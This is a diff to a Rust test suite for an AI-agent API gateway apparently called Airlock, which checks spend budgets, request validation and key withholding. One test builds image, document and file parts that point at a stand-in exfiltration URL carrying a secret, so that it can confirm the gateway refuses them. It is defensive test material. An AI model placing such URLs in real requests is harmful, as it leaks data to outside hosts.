@@ -240,9 +240,10 @@ fn the_request_that_would_start_past_the_budget_is_refused_in_the_providers_form
     require_journald();
     let si = StandIn::start();
     let h = Host::new(&[("tess", "code"), ("zed", "code-scout")], &si.config());
-    // Room for two answers (2 x $0.0189 > $0.03 only after the second).
+    // Room for two answers of $0.0189: the second's reserve (its input estimate and 600
+    // output tokens, $0.0134) fits after the first, the third's not after the second.
     h.local_role("code", |t| {
-        t.replace("  spend_usd: 15\n", "  spend_usd: 0.03\n")
+        t.replace("  spend_usd: 15\n", "  spend_usd: 0.035\n")
     });
     let model = "claude-sonnet-4-5";
     let call = json!({"op": "call", "api": "anthropic", "model": model, "stream": true});
@@ -314,5 +315,467 @@ fn a_launch_of_a_model_without_a_price_or_a_provider_is_refused_before_it_starts
     assert!(
         e.contains("prices.yaml: models.claude-unpriced-9: no price"),
         "{e}"
+    );
+}
+
+/// Launch `steps` of the scripted provider client as `instance` of `role`; the run id and
+/// the agent's lines.
+fn run_steps(h: &Host, role: &str, instance: &str, steps: &Value) -> (String, Vec<Value>) {
+    let argv = provider_agent(steps);
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let o = h.launch(role, instance, &[], &argv).output().unwrap();
+    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
+    (run_id_of(&o), agent_lines(&o))
+}
+
+/// The input a request of `bytes` bytes (and no file) is reserved at: one token a byte and
+/// the provider's own prompt.
+fn estimate(bytes: u64) -> u64 {
+    bytes + airlock::policy::prices::PROMPT_TOKENS
+}
+
+/// The worst case of `input` and `output` tokens for claude-sonnet-4-5 (policies/prices.yaml):
+/// input at its highest rate (cache writes, $3.75), output at $15, per million, rounded up.
+fn sonnet_worst(input: u64, output: u64) -> u64 {
+    (input * 3_750_000 + output * 15_000_000).div_ceil(1_000_000)
+}
+
+/// The same for gpt-5-codex: input at $1.25, output at $10.
+fn codex_worst(input: u64, output: u64) -> u64 {
+    (input * 1_250_000 + output * 10_000_000).div_ceil(1_000_000)
+}
+
+/// The stand-in's records of model requests (POSTs), in order.
+fn posts(si: &StandIn) -> Vec<Value> {
+    si.requests()
+        .into_iter()
+        .filter(|r| r["method"] == "POST")
+        .collect()
+}
+
+/// The run's provider events of one endpoint (the model list an agent polls aside).
+fn model_events(run: &str, endpoint: &str, want: usize) -> Vec<Value> {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    loop {
+        let ev: Vec<Value> = provider_events(run, 0)
+            .into_iter()
+            .filter(|e| field(e, "AIRLOCK_ENDPOINT") == endpoint)
+            .collect();
+        if ev.len() >= want || std::time::Instant::now() > deadline {
+            return ev;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+}
+
+fn num(e: &Value, k: &str) -> u64 {
+    field(e, k).parse().unwrap_or_else(|_| panic!("{k} in {e}"))
+}
+
+#[test]
+fn a_request_the_agent_abandons_before_its_answer_is_charged_its_worst_case_and_journaled() {
+    require_journald();
+    let si = StandIn::start();
+    let h = host(&si);
+    // Room for one request of 64000 output tokens ($0.96 and its input), not two.
+    h.local_role("code", |t| {
+        t.replace("  spend_usd: 15\n", "  spend_usd: 1.5\n")
+    });
+    let model = "claude-sonnet-4-5";
+    let big = json!({"max_tokens": 64000});
+    let steps = json!([
+        {"op": "abandon", "api": "anthropic", "model": model, "extra": big},
+        {"op": "call", "api": "anthropic", "model": model, "extra": big},
+    ]);
+    let (run, lines) = run_steps(&h, "code", "tess", &steps);
+    assert_eq!(step(&lines, 0)["waiting"], 1, "{lines:?}");
+    // The provider had the whole request, with the real key.
+    let sent = posts(&si);
+    assert_eq!(sent.len(), 1, "{sent:?}");
+    assert_eq!(sent[0]["arrived"], true);
+    assert_eq!(sent[0]["x_api_key"], si.key.as_str());
+    let bytes = sent[0]["raw_body"].as_str().unwrap().len() as u64;
+    let worst = sonnet_worst(estimate(bytes), 64000);
+    assert!(worst > 960_000, "{worst}");
+
+    // Charged its worst case and journaled as abandoned; the next one no longer fits.
+    let ev = model_events(&run, "POST /v1/messages", 2);
+    assert_eq!(ev.len(), 2, "{ev:?}");
+    let gone = &ev[0];
+    assert_eq!(field(gone, "AIRLOCK_DECISION"), "allow", "{gone}");
+    assert_eq!(field(gone, "AIRLOCK_OUTCOME"), "abandoned", "{gone}");
+    assert_eq!(field(gone, "AIRLOCK_USAGE"), "estimated");
+    assert_eq!(num(gone, "AIRLOCK_RESERVE_MICRO_USD"), worst);
+    assert_eq!(num(gone, "AIRLOCK_COST_MICRO_USD"), worst);
+    assert_eq!(num(gone, "AIRLOCK_OUTPUT_TOKENS"), 64000);
+    assert_eq!(num(gone, "AIRLOCK_INPUT_TOKENS"), estimate(bytes));
+    let next = step(&lines, 1);
+    assert_eq!(next["status"], 403, "{next}");
+    assert!(
+        next["message"]
+            .as_str()
+            .unwrap()
+            .contains("budget.spend_usd"),
+        "{next}"
+    );
+    assert_eq!(field(&ev[1], "AIRLOCK_RULE"), "budget.spend_usd");
+    let s = &show_json(&h, &run)["run"]["spend"];
+    assert_eq!(s["micro_usd"], worst, "{s}");
+    assert_eq!(
+        (s["requests"].as_u64(), s["refused"].as_u64()),
+        (Some(1), Some(1))
+    );
+
+    // The same on the codex route, whose output limit is optional: the model's max_output.
+    let steps = json!([
+        {"op": "abandon", "api": "openai", "model": "gpt-5-codex", "drop": ["max_output_tokens"]},
+    ]);
+    let (run, _) = run_steps(&h, "review", "rex", &steps);
+    let sent = posts(&si);
+    let input = estimate(sent.last().unwrap()["raw_body"].as_str().unwrap().len() as u64);
+    let ev = model_events(&run, "POST /responses", 1);
+    assert_eq!(field(&ev[0], "AIRLOCK_OUTCOME"), "abandoned", "{ev:?}");
+    assert_eq!(
+        num(&ev[0], "AIRLOCK_COST_MICRO_USD"),
+        codex_worst(input, 128_000)
+    );
+    assert_eq!(
+        show_json(&h, &run)["run"]["spend"]["micro_usd"],
+        codex_worst(input, 128_000)
+    );
+}
+
+#[test]
+fn a_stream_cut_short_is_charged_its_output_limit_and_its_input_and_a_limit_must_be_whole() {
+    require_journald();
+    let si = StandIn::start();
+    let h = host(&si);
+    let model = "claude-sonnet-4-5";
+    let steps = json!([
+        {"op": "call", "api": "anthropic", "model": model, "stream": true, "mode": "cut"},
+        {"op": "call", "api": "anthropic", "model": model, "stream": true, "mode": "cut",
+         "extra": {"max_tokens": 64000.0}},
+        {"op": "call", "api": "anthropic", "model": model, "stream": true, "drop": ["max_tokens"]},
+    ]);
+    let (run, lines) = run_steps(&h, "code", "tess", &steps);
+    assert_eq!(step(&lines, 0)["text"], "hello ", "{lines:?}");
+    for i in [1, 2] {
+        assert_eq!(step(&lines, i)["status"], 400, "{}", step(&lines, i));
+        assert_eq!(step(&lines, i)["error_type"], "invalid_request_error");
+    }
+    assert_eq!(posts(&si).len(), 1, "a limit that is not whole never left");
+    let ev = provider_events(&run, 3);
+    let cut = &ev[0];
+    assert_eq!(field(cut, "AIRLOCK_OUTCOME"), "cut", "{cut}");
+    // The input side as message_start said it, the output at the request's limit (600).
+    assert_eq!(num(cut, "AIRLOCK_OUTPUT_TOKENS"), 600);
+    assert_eq!(
+        num(cut, "AIRLOCK_COST_MICRO_USD"),
+        1000 * 3 + 2000 * 15 / 4 + 3000 * 3 / 10 + 600 * 15
+    );
+    for e in &ev[1..] {
+        assert_eq!(field(e, "AIRLOCK_RULE"), "output limit", "{e}");
+    }
+
+    // OpenAI says nothing of the input before the end: a cut stream is charged the input's
+    // estimate, and its output at the limit, or at the model's max_output without one.
+    let codex = "gpt-5-codex";
+    let steps = json!([
+        {"op": "call", "api": "openai", "model": codex, "stream": true, "mode": "cut"},
+        {"op": "call", "api": "openai", "model": codex, "stream": true, "mode": "cut",
+         "drop": ["max_output_tokens"]},
+        {"op": "call", "api": "openai", "model": codex, "extra": {"max_output_tokens": 1200.5}},
+    ]);
+    let (run, lines) = run_steps(&h, "review", "rex", &steps);
+    assert_eq!(step(&lines, 2)["status"], 400, "{}", step(&lines, 2));
+    let sent = posts(&si);
+    assert_eq!(sent.len(), 3, "{sent:?}");
+    let input = |i: usize| estimate(sent[i]["raw_body"].as_str().unwrap().len() as u64);
+    let ev = provider_events(&run, 3);
+    for (e, i, limit) in [(&ev[0], 1, 1200), (&ev[1], 2, 128_000)] {
+        assert_eq!(field(e, "AIRLOCK_OUTCOME"), "cut", "{e}");
+        assert_eq!(num(e, "AIRLOCK_INPUT_TOKENS"), input(i), "{e}");
+        assert_eq!(num(e, "AIRLOCK_OUTPUT_TOKENS"), limit, "{e}");
+        assert_eq!(
+            num(e, "AIRLOCK_COST_MICRO_USD"),
+            codex_worst(input(i), limit)
+        );
+    }
+    assert_eq!(field(&ev[2], "AIRLOCK_RULE"), "output limit");
+}
+
+/// A user turn of content blocks (Anthropic) or input parts (OpenAI).
+fn turn(api: &str, parts: Value) -> Value {
+    if api == "anthropic" {
+        json!({"messages": [{"role": "user", "content": parts}]})
+    } else {
+        json!({"input": [{"role": "user", "content": parts}]})
+    }
+}
+
+#[test]
+fn content_that_has_the_provider_fetch_or_read_outside_the_request_is_refused() {
+    require_journald();
+    let si = StandIn::start();
+    let h = Host::new(
+        &[
+            ("tess", "code"),
+            ("rex", "review"),
+            ("wren", "web-researcher"),
+            ("rue", "review"),
+        ],
+        &si.config(),
+    );
+    let url = "https://exfil.example/pixel.png?secret=s3cr3t";
+    let a_url = [
+        json!([{"type": "image", "source": {"type": "url", "url": url}}]),
+        json!([{"type": "document", "source": {"type": "url", "url": url}}]),
+        // Nested in a tool result: the same.
+        json!([{"type": "tool_result", "tool_use_id": "t1", "content": [
+            {"type": "image", "source": {"type": "url", "url": url}}]}]),
+    ];
+    let a_file = [
+        json!([{"type": "document", "source": {"type": "file", "file_id": "file_011"}}]),
+        json!([{"type": "image", "source": {"type": "file", "file_id": "file_011"}}]),
+        json!([{"type": "container_upload", "file_id": "file_011"}]),
+    ];
+    let o_url = [
+        json!([{"type": "input_image", "image_url": url}]),
+        json!([{"type": "input_file", "file_url": url}]),
+    ];
+    let o_file = [
+        json!([{"type": "input_image", "file_id": "file-abc"}]),
+        json!([{"type": "input_file", "file_id": "file-abc"}]),
+    ];
+    let anthropic = |parts: &Value| json!({"op": "call", "api": "anthropic", "model": "claude-sonnet-4-5", "extra": turn("anthropic", parts.clone())});
+    let openai = |parts: &Value| json!({"op": "call", "api": "openai", "model": "gpt-5-codex", "extra": turn("openai", parts.clone())});
+    let mut a_steps: Vec<Value> = a_url.iter().chain(&a_file).map(anthropic).collect();
+    a_steps.push(
+        json!({"op": "call", "api": "anthropic", "model": "claude-sonnet-4-5",
+        "headers": {"anthropic-beta": "files-api-2025-04-14"}}),
+    );
+    let mut o_steps: Vec<Value> = o_url.iter().chain(&o_file).map(openai).collect();
+    o_steps.push(
+        json!({"op": "call", "api": "openai", "model": "gpt-5-codex",
+        "extra": {"previous_response_id": "resp_1"}}),
+    );
+
+    // Without WebFetch: every one refused, in the provider's format, journaled by rule.
+    for (role, inst, steps) in [("code", "tess", &a_steps), ("review", "rex", &o_steps)] {
+        let (run, lines) = run_steps(&h, role, inst, &json!(steps));
+        for i in 0..steps.len() {
+            let l = step(&lines, i);
+            assert_eq!(l["status"], 403, "{role} step {i}: {l}");
+            let m = l["message"].as_str().unwrap_or("");
+            assert!(!m.contains("s3cr3t") && !m.contains("file_011"), "{m}");
+        }
+        let ev = provider_events(&run, steps.len());
+        assert_eq!(ev.len(), steps.len());
+        assert!(
+            ev.iter().all(|e| field(e, "AIRLOCK_RULE") == "content"),
+            "{ev:?}"
+        );
+    }
+    assert!(
+        posts(&si).is_empty(),
+        "a refused request reached the provider"
+    );
+
+    // With WebFetch a URL source is a web fetch the role may make; a file id never.
+    h.local_role("review", |t| {
+        t.replace(
+            "  provider: codex\n",
+            "  provider: codex\n  tools: [WebFetch]\n",
+        )
+    });
+    for (role, inst, urls, files) in [
+        (
+            "web-researcher",
+            "wren",
+            a_url.iter().map(anthropic).collect::<Vec<_>>(),
+            &a_steps[a_url.len()..],
+        ),
+        (
+            "review",
+            "rue",
+            o_url.iter().map(openai).collect::<Vec<_>>(),
+            &o_steps[o_url.len()..],
+        ),
+    ] {
+        let steps: Vec<Value> = urls.iter().chain(files).cloned().collect();
+        let (_, lines) = run_steps(&h, role, inst, &json!(steps));
+        for i in 0..steps.len() {
+            let want = if i < urls.len() { 200 } else { 403 };
+            assert_eq!(
+                step(&lines, i)["status"],
+                want,
+                "{role} step {i}: {}",
+                step(&lines, i)
+            );
+        }
+    }
+    assert_eq!(posts(&si).len(), a_url.len() + o_url.len());
+}
+
+#[test]
+fn the_body_forwarded_is_the_body_checked_and_case_twins_are_refused() {
+    require_journald();
+    let si = StandIn::start();
+    let h = host(&si);
+    let twins = r#"{"model": "claude-sonnet-4-5", "MODEL": "claude-opus-4-1", "max_tokens": 600,
+        "messages": [{"role": "user", "content": "hi"}],
+        "Tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
+        "MCP_Servers": [{"type": "url", "url": "https://x.example/mcp", "name": "x"}]}"#;
+    let deep = r#"{"model": "claude-sonnet-4-5", "max_tokens": 600,
+        "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", "Type": "image"}]}]}"#;
+    // Spaces, an escape, and a content type that is not JSON: what goes on is what was read.
+    let loose = "{ \"model\" : \"claude-sonnet-4-5\",\n \"max_tokens\": 600, \"messages\": [{\"role\": \"user\", \"content\": \"h\\u0069\"}] }";
+    let steps = json!([
+        {"op": "call", "api": "anthropic", "raw": twins},
+        {"op": "call", "api": "anthropic", "raw": deep},
+        {"op": "call", "api": "anthropic", "raw": loose, "headers": {"content-type": "text/plain"}},
+    ]);
+    let (run, lines) = run_steps(&h, "code", "tess", &steps);
+    for i in [0, 1] {
+        assert_eq!(step(&lines, i)["status"], 400, "{}", step(&lines, i));
+        assert_eq!(step(&lines, i)["error_type"], "invalid_request_error");
+    }
+    assert_eq!(step(&lines, 2)["status"], 200, "{}", step(&lines, 2));
+    let sent = posts(&si);
+    assert_eq!(sent.len(), 1, "{sent:?}");
+    assert_eq!(
+        sent[0]["raw_body"],
+        r#"{"max_tokens":600,"messages":[{"content":"hi","role":"user"}],"model":"claude-sonnet-4-5"}"#
+    );
+    assert_eq!(sent[0]["headers"]["content-type"], "application/json");
+    let ev = provider_events(&run, 3);
+    let rules: Vec<&str> = ev.iter().map(|e| field(e, "AIRLOCK_RULE")).collect();
+    assert_eq!(&rules[..2], ["request: case", "request: case"], "{ev:?}");
+    // What Airlock wrote (journald adds the process's command line, the steps).
+    let written = |e: &Value| {
+        e.as_object()
+            .unwrap()
+            .iter()
+            .filter(|(k, _)| k.starts_with("AIRLOCK_") || *k == "MESSAGE")
+            .any(|(_, v)| v.to_string().contains("opus"))
+    };
+    assert!(!ev.iter().any(written), "a value reached the journal");
+}
+
+#[test]
+fn an_answer_that_echoes_the_real_key_reaches_the_agent_with_it_withheld() {
+    require_journald();
+    let si = StandIn::start();
+    let h = host(&si);
+    let model = "claude-sonnet-4-5";
+    let steps = json!([
+        {"op": "call", "api": "anthropic", "model": model, "mode": "echo"},
+        {"op": "call", "api": "anthropic", "model": model, "mode": "echo", "stream": true},
+    ]);
+    let (run, lines) = run_steps(&h, "code", "tess", &steps);
+    let steps = json!([
+        {"op": "call", "api": "openai", "model": "gpt-5-codex", "mode": "echo", "stream": true},
+        {"op": "call", "api": "openai", "model": "gpt-5-codex", "mode": "echo"},
+    ]);
+    let (orun, olines) = run_steps(&h, "review", "rex", &steps);
+    let mark = "[withheld by Airlock]";
+    for l in lines.iter().chain(&olines) {
+        assert_eq!(l["status"], 200, "{l}");
+        let seen = l.to_string();
+        assert!(!seen.contains(&si.key), "the key reached the agent: {seen}");
+        assert_eq!(l["headers"]["x-echo-key"], mark, "{l}");
+        assert!(
+            seen.contains(&format!("the key I was sent is {mark}")),
+            "{seen}"
+        );
+    }
+    // The answers were metered all the same, and the withholding journaled.
+    let ev = provider_events(&run, 2);
+    assert!(ev
+        .iter()
+        .all(|e| field(e, "AIRLOCK_COST_MICRO_USD") == ANTHROPIC_COST.to_string()));
+    for (r, route, n) in [(&run, "provider claude", 2), (&orun, "provider codex", 2)] {
+        let w = events(r, "withheld", n);
+        assert_eq!(w.len(), n, "{w:?}");
+        for e in &w {
+            assert_eq!(field(e, "AIRLOCK_ROUTE"), route);
+            assert_eq!(field(e, "AIRLOCK_WITHHELD_HEADERS"), "1");
+            assert!(num(e, "AIRLOCK_WITHHELD_BODY") >= 1, "{e}");
+        }
+        assert!(!journal_text(r).contains(&si.key));
+    }
+}
+
+#[test]
+fn method_overrides_get_bodies_queries_and_encoded_bodies_are_refused() {
+    require_journald();
+    let si = StandIn::start();
+    let h = host(&si);
+    let model = "claude-sonnet-4-5";
+    let opus = r#"{"model": "claude-opus-4-1", "max_tokens": 600, "messages": [{"role": "user", "content": "hi"}]}"#;
+    let steps = json!([
+        {"op": "call", "api": "anthropic", "model": model, "headers": {"X-HTTP-Method-Override": "GET"}},
+        {"op": "call", "api": "anthropic", "method": "GET", "path": "/v1/models", "raw": opus},
+        {"op": "call", "api": "anthropic", "model": model, "path": "/v1/messages?model=claude-opus-4-1"},
+        {"op": "call", "api": "anthropic", "model": model, "gzip": true},
+        {"op": "call", "api": "anthropic", "model": model, "path": "/v1/messages?beta=true"},
+        {"op": "call", "api": "anthropic", "method": "GET", "path": "/v1/models?limit=5", "raw": null},
+        // Priced above the table: refused as well.
+        {"op": "call", "api": "anthropic", "model": model, "headers": {"anthropic-beta": "context-1m-2025-08-07"}},
+    ]);
+    let (run, lines) = run_steps(&h, "code", "tess", &steps);
+    for i in 0..4 {
+        assert_eq!(
+            step(&lines, i)["status"],
+            400,
+            "step {i}: {}",
+            step(&lines, i)
+        );
+    }
+    assert_eq!(step(&lines, 4)["status"], 200, "{}", step(&lines, 4));
+    assert_eq!(step(&lines, 5)["status"], 200, "{}", step(&lines, 5));
+    assert_eq!(step(&lines, 6)["status"], 403, "{}", step(&lines, 6));
+    let seen = si.requests();
+    let paths: Vec<&str> = seen.iter().map(|r| r["path"].as_str().unwrap()).collect();
+    assert_eq!(
+        paths,
+        ["/v1/messages?beta=true", "/v1/models?limit=5"],
+        "{seen:?}"
+    );
+    assert!(seen
+        .iter()
+        .all(|r| r["raw_body"] == "" || r["method"] == "POST"));
+    let ev = provider_events(&run, 7);
+    let rules: Vec<&str> = ev.iter().map(|e| field(e, "AIRLOCK_RULE")).collect();
+    assert_eq!(
+        &rules[..4],
+        [
+            "request: method",
+            "request: body",
+            "endpoint",
+            "request: encoding"
+        ],
+        "{ev:?}"
+    );
+    // A query that goes on is journaled with its endpoint.
+    assert_eq!(
+        field(&ev[4], "AIRLOCK_ENDPOINT"),
+        "POST /v1/messages?beta=true"
+    );
+    assert_eq!(field(&ev[6], "AIRLOCK_RULE"), "price");
+
+    let steps = json!([
+        {"op": "call", "api": "openai", "model": "gpt-5-codex", "path": "/responses?stream=true"},
+        {"op": "call", "api": "openai", "model": "gpt-5-codex", "headers": {"X-Method-Override": "DELETE"}},
+        {"op": "call", "api": "openai", "model": "gpt-5-codex", "extra": {"service_tier": "priority"}},
+    ]);
+    let (_, lines) = run_steps(&h, "review", "rex", &steps);
+    assert_eq!(step(&lines, 0)["status"], 400);
+    assert_eq!(step(&lines, 1)["status"], 400);
+    assert_eq!(step(&lines, 2)["status"], 403);
+    assert_eq!(
+        si.requests().len(),
+        2,
+        "refused requests never left the gateway"
     );
 }
